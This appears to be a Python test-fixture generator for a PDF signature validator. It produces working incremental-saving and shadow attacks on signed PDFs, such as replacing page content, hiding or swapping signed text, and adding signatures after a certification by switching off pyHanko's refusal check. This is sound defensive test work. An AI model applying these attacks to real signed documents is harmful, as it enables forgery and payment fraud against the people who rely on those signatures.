"""Incremental updates appended to a signed PDF with pyHanko's incremental writer (the
kit's venv): the shapes of the incremental-saving attack, for validate.sh.

    python pdf_attacks.py SIGNED.pdf content|annot OUT.pdf
    python pdf_attacks.py SIGNED.pdf sign-after|certify-after OUT.pdf KEY CERT

content: the first page's /Contents replaced by a new stream.
annot:   a white /Square annotation over the whole first page (DocMDP P=2 forbids it).
fill-form:     every text field's value and appearance set (form filling: DocMDP P=2
               allows it).
    python pdf_attacks.py - form-pdf OUT.pdf
form-pdf:      a one-page PDF with one text field `name` (the input for fill-form).
lock-sign:     a new approval signature by pyHanko whose field locks the text field
               `name` (FieldMDP Include).
shadow-pdf:    a one-page PDF prepared for the shadow attacks (Mainka et al., 2021): a
               white overlay XObject (6 0) covers part of the text, and an orphan
               second body for the content stream (4 0), listed in no cross-reference
               section, sits in the file.
    python pdf_attacks.py - shadow-pdf OUT.pdf
hide:          (after signing shadow-pdf) a cross-reference section and nothing else,
               freeing the overlay: what it covered shows.
replace:       (likewise) the font (5 0) redefined: the same text codes draw other
               glyphs.
hide-and-replace: (likewise) a cross-reference section and nothing else, pointing the
               content stream's entry at the orphan body signed with the document.
cms-revocation: (not an attack) an OCSP response put into the signature's CMS as
               RFC 5940 other revocation information, and a CRL beside it, in
               SignedData.crls (unsigned: the signature stays valid).
    python pdf_attacks.py SIGNED.pdf cms-revocation OUT.pdf OCSP.der CRL.der
sign-after:    a new approval signature by pyHanko, its own refusal to sign a document
               certified with DocMDP P=1 switched off (the attack a validator must see).
certify-after: a certification signature added after an existing signature (pyHanko's
               refusal switched off likewise): not the first signature, as PDF requires.
"""
import re
import sys

from pdf_bytes import update, write_pdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter


def sign_after(src, out, key, cert, certify):
    from pyhanko.sign import fields, signers
    from pyhanko.sign.signers import pdf_signer

    pdf_signer.PdfSigner._enforce_certification_constraints = lambda self, reader: None
    signer = signers.SimpleSigner.load(key, cert)
    meta = signers.PdfSignatureMetadata(
        field_name="Attacker", certify=certify,
        docmdp_permissions=fields.MDPPerm.FILL_FORMS)
    with open(src, "rb") as f:
        w = IncrementalPdfFileWriter(f)
        with open(out, "wb") as o:
            signers.PdfSigner(meta, signer=signer).sign_pdf(w, output=o)


def form_pdf(out):
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] /DA (/Helv 12 Tf 0 g) "
        b"/DR << /Font << /Helv 6 0 R >> >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
        b"/Resources << /Font << /Helv 6 0 R >> >> /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V () /Rect [72 700 300 720] "
        b"/P 3 0 R /F 4 /DA (/Helv 12 Tf 0 g) >>",
        None,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    content = b"BT /Helv 12 Tf 72 740 Td (Name:) Tj ET"
    objs[4] = b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"
    open(out, "wb").write(write_pdf(objs))


SHADOW_ORPHAN = b"BT /F1 24 Tf 72 700 Td (PAY 1000000 TO MALLORY) Tj ET"


def shadow_pdf(out):
    content = (b"BT /F1 24 Tf 72 700 Td (PAY 100 TO ALICE) Tj ET "
               b"BT /F1 24 Tf 72 600 Td (SECRET CLAUSE) Tj ET q /Cover Do Q")
    cover = b"1 1 1 rg 60 590 400 40 re f"
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /Cover 6 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Length %d >>\nstream\n"
        % len(cover) + cover + b"\nendstream",
    ]
    # The orphan: object 4 once more, in the signed bytes but in no xref section.
    orphan = (b"4 0 obj\n<< /Length %d >>\nstream\n" % len(SHADOW_ORPHAN) + SHADOW_ORPHAN
              + b"\nendstream\nendobj\n")
    open(out, "wb").write(write_pdf(objs, extra=orphan))


def shadow_update(src, kind, out):
    """An incremental update written by hand: pyHanko's writer cannot leave out the
    objects, which is the point of these attacks."""
    data = open(src, "rb").read()
    if kind == "hide":
        data = update(data, entries=b"6 1\n0000000000 00001 f \n")
    elif kind == "replace":
        data = update(data, {5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica "
                                b"/Encoding << /Differences [49 /nine /zero] >> >>"})
    elif kind == "hide-and-replace":
        # The orphan: the second "4 0 obj" of the file, signed with the document.
        at = [m.start() for m in re.finditer(rb"(?<![0-9])4 0 obj", data)][1]
        data = update(data, entries=b"4 1\n%010d 00000 n \n" % at)
    else:
        raise SystemExit(f"unknown shadow attack {kind}")
    open(out, "wb").write(data)


def cms_revocation(src, out, ocsp_der, crl_der):
    from asn1crypto import cms, crl, ocsp
    data = open(src, "rb").read()
    m = re.search(rb"/Contents\s*<([0-9A-Fa-f]+)>", data)
    hexs = m.group(1)
    raw = bytes.fromhex(hexs.decode())
    info = cms.ContentInfo.load(raw)
    info = cms.ContentInfo.load(raw[:len(info.dump())])
    signed = info["content"]
    choices = [] if signed["crls"].native is None else list(signed["crls"])
    choices.append(cms.RevocationInfoChoice(name="crl", value=crl.CertificateList.load(open(crl_der, "rb").read())))
    choices.append(cms.RevocationInfoChoice(name="other", value=cms.OtherRevocationInfoFormat({
        "other_rev_info_format": "ocsp_response",
        "other_rev_info": ocsp.OCSPResponse.load(open(ocsp_der, "rb").read())})))
    signed["crls"] = choices
    new = cms.ContentInfo({"content_type": "signed_data", "content": signed}).dump(force=True)
    new = new.hex().upper().encode()
    if len(new) > len(hexs):
        raise SystemExit(f"the CMS no longer fits its /Contents ({len(new)} > {len(hexs)})")
    open(out, "wb").write(data[:m.start(1)] + new + b"0" * (len(hexs) - len(new)) + data[m.end(1):])


def fill_form(src, out):
    with open(src, "rb") as f:
        w = IncrementalPdfFileWriter(f)
        fields = w.root["/AcroForm"]["/Fields"]
        for i in range(len(fields)):
            ref = fields.raw_get(i)
            field = ref.get_object()
            if field.get("/FT") != "/Tx":
                continue
            field["/V"] = generic.TextStringObject("Alice Example")
            ap = generic.StreamObject(
                {generic.NameObject("/BBox"): generic.ArrayObject(
                    [generic.FloatObject(x) for x in (0, 0, 228, 20)]),
                 generic.NameObject("/Subtype"): generic.NameObject("/Form")},
                stream_data=b"/Tx BMC BT /Helv 12 Tf 2 5 Td (Alice Example) Tj ET EMC")
            field["/AP"] = generic.DictionaryObject(
                {generic.NameObject("/N"): w.add_object(ap)})
            w.update_container(field)
        with open(out, "wb") as o:
            w.write(o)


def lock_sign(src, out, key, cert):
    from pyhanko.sign import fields, signers

    signer = signers.SimpleSigner.load(key, cert)
    spec = fields.SigFieldSpec("Locker", field_mdp_spec=fields.FieldMDPSpec(
        fields.FieldMDPAction.INCLUDE, fields=["name"]))
    meta = signers.PdfSignatureMetadata(field_name="Locker")
    with open(src, "rb") as f:
        w = IncrementalPdfFileWriter(f)
        with open(out, "wb") as o:
            signers.PdfSigner(meta, signer=signer, new_field_spec=spec).sign_pdf(w, output=o)


def main(src, kind, out, *rest):
    if kind == "lock-sign":
        return lock_sign(src, out, rest[0], rest[1])
    if kind in ("sign-after", "certify-after"):
        return sign_after(src, out, rest[0], rest[1], kind == "certify-after")
    if kind == "form-pdf":
        return form_pdf(out)
    if kind == "fill-form":
        return fill_form(src, out)
    if kind == "cms-revocation":
        return cms_revocation(src, out, rest[0], rest[1])
    if kind == "shadow-pdf":
        return shadow_pdf(out)
    if kind in ("hide", "replace", "hide-and-replace"):
        return shadow_update(src, kind, out)
    with open(src, "rb") as f:
        w = IncrementalPdfFileWriter(f)
        page = w.root["/Pages"]["/Kids"].raw_get(0).get_object()
        if kind == "content":
            stream = generic.StreamObject(
                stream_data=b"BT /F1 24 Tf 72 700 Td (PAY 1000000 TO MALLORY) Tj ET"
            )
            page["/Contents"] = w.add_object(stream)
        elif kind == "annot":
            white = generic.ArrayObject([generic.FloatObject(1)] * 3)
            annot = w.add_object(generic.DictionaryObject({
                generic.NameObject("/Type"): generic.NameObject("/Annot"),
                generic.NameObject("/Subtype"): generic.NameObject("/Square"),
                generic.NameObject("/Rect"): generic.ArrayObject(
                    [generic.FloatObject(x) for x in (0, 0, 600, 800)]),
                generic.NameObject("/C"): white,
                generic.NameObject("/IC"): white,
            }))
            annots = page.get("/Annots")
            if annots is None:
                page["/Annots"] = generic.ArrayObject([annot])
            else:
                annots.get_object().append(annot)
                if isinstance(page.raw_get("/Annots"), generic.IndirectObject):
                    w.update_container(page.raw_get("/Annots"))
        else:
            raise SystemExit(f"unknown attack {kind}")
        w.update_container(page)
        with open(out, "wb") as o:
            w.write(o)


if __name__ == "__main__":
    main(*sys.argv[1:])
